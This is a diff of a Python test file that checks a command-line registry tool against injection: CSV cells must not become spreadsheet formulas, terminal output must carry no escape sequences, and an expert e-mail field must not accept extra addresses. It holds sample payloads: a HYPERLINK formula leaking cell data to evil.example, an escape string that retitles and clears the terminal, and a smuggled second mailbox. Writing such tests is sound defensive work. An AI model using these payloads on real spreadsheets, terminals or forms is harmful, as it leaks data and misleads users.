@@ -1,26 +1,26 @@
 """Rule (issue 18): what the CLI takes in is checked before a case starts, and what it puts out
 cannot act where it lands: a CSV cell is never a formula in Excel or WPS, and data printed on
-the terminal carries no escape sequence. The registry is a real SQLite database written the
-production way; ``survey add`` refuses before it connects to anything."""
+the terminal carries no escape sequence. The registry is the session stack's SQLite database,
+written the production way and read through the API; ``survey add`` refuses before it sends
+anything."""
 
 from __future__ import annotations
 
 import csv
 import io
-import os
 import uuid
 from collections.abc import Iterator
-from pathlib import Path
 
 import pytest
-from sqlalchemy import Engine
 from typer.testing import CliRunner
 
-from activities.db import create_registry_engine, migrate
+from activities.db import create_registry_engine
 from idri.cli import build_app
 from idri.cli._sheet import check_rows
-from idri.settings import Settings, get_settings
+from idri.devserver import free_port
+from idri.settings import Settings
 from idri.worker import registry_activities
+from tests.cli.stack import Stack
 from tests.registry.registry_builders import Script
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
@@ -28,38 +28,39 @@ ESCAPES = "天津\x1b]0;pwned\x07\x1b[2J设计\u202e公司"
 
 
 def idri(*args: str) -> tuple[int, str, str]:
-    """``idri ARGS`` in-process: (exit code, stdout, stderr)."""
-    get_settings.cache_clear()
-    try:
-        result = CliRunner().invoke(build_app(), list(args), catch_exceptions=False)
-    finally:
-        get_settings.cache_clear()
+    """``idri ARGS`` in-process with no API to talk to: (exit code, stdout, stderr). A command
+    that sent a request would exit 3."""
+    result = CliRunner().invoke(
+        build_app(),
+        list(args),
+        env={"IDRI_API_URL": f"http://127.0.0.1:{free_port()}", "IDRI_TOKEN": "unused"},
+        catch_exceptions=False,
+    )
     return result.exit_code, result.stdout, result.stderr
 
 
-@pytest.fixture
-def registry(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Engine]:
-    """The SQLite registry the CLI finds in its data directory, with two designated institutes
-    whose names an attacker chose."""
-    for name in list(os.environ):
-        if name.startswith(("IDRI_", "TEMPORAL_")):
-            monkeypatch.delenv(name)
-    monkeypatch.setenv("IDRI_DATA_DIR", str(tmp_path))
-    monkeypatch.setenv("COLUMNS", "300")
-    settings = Settings(_env_file=None, data_dir=tmp_path, smtp_host=None)  # type: ignore[call-arg]
-    migrate(settings.registry_url)
+@pytest.fixture(scope="module")
+def registry(stack: Stack) -> Iterator[Stack]:
+    """The stack's registry, with two designated institutes whose names an attacker chose."""
+    settings = Settings(_env_file=None, data_dir=stack.data_dir, smtp_host=None)  # type: ignore[call-arg]
     engine = create_registry_engine(settings.registry_url)
     writer = registry_activities(engine, settings)
     for organisation in (FORMULA, ESCAPES):
         script = Script(f"binhai-{uuid.uuid4().hex[:8]}", organisation=organisation)
         for record in [*script.to_public_notice(), script.designate()]:
             assert writer.record_sync(record)
-    yield engine
     engine.dispose()
+    yield stack
 
 
-def test_a_name_that_is_a_formula_is_text_in_the_registry_csv(registry: Engine) -> None:
-    code, out, err = idri("registry", "--format", "csv")
+def listed(stack: Stack, *args: str) -> tuple[int, str, str]:
+    result = stack.cli("registry", *args, env={"COLUMNS": "300"})
+    return result.exit_code, result.stdout, result.stderr
+
+
+@pytest.mark.devserver
+def test_a_name_that_is_a_formula_is_text_in_the_registry_csv(registry: Stack) -> None:
+    code, out, err = listed(registry, "--format", "csv")
 
     assert code == 0, err
     rows = list(csv.DictReader(io.StringIO(out)))
@@ -68,16 +69,18 @@ def test_a_name_that_is_a_formula_is_text_in_the_registry_csv(registry: Engine) 
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
 
 
-def test_escape_sequences_in_a_name_never_reach_the_terminal(registry: Engine) -> None:
-    code, out, err = idri("registry")
+@pytest.mark.devserver
+def test_escape_sequences_in_a_name_never_reach_the_terminal(registry: Stack) -> None:
+    code, out, err = listed(registry)
 
     assert code == 0, err
     assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
     assert "天津\ufffd]0;pwned\ufffd\ufffd[2J设计\ufffd公司" in out
 
 
-def test_escape_sequences_in_json_output_are_escaped_not_lost(registry: Engine) -> None:
-    code, out, err = idri("registry", "--json")
+@pytest.mark.devserver
+def test_escape_sequences_in_json_output_are_escaped_not_lost(registry: Stack) -> None:
+    code, out, err = listed(registry, "--json")
 
     assert code == 0, err
     assert "\x1b" not in out and "\u202e" not in out
@@ -126,16 +129,14 @@ def test_survey_add_refuses_a_megabyte_name() -> None:
     )
 
 
-def test_review_assign_refuses_an_expert_address_of_two_mailboxes() -> None:
+def test_review_assign_takes_no_address_typed_for_an_expert() -> None:
     code, _, err = idri(
-        "review", "assign", "binhai-00000000", "--expert", "张教授", "--org", "天津大学",
+        "review", "assign", "binhai-00000000", "--expert", "张教授",
         "--email", "zhang@tju.edu.cn,x@evil.example",
     )  # fmt: skip
 
-    assert code == 1
-    assert err.startswith(
-        "error: nothing assigned: expert 张教授's e-mail address 'zhang@tju.edu.cn,x@evil.example'"
-    )
+    assert code == 2
+    assert err.startswith("error: --org and --email are gone: an expert's organisation and e-mail")
 
 
 def test_a_survey_sheet_row_with_a_bad_contact_or_a_huge_name_is_invalid() -> None:
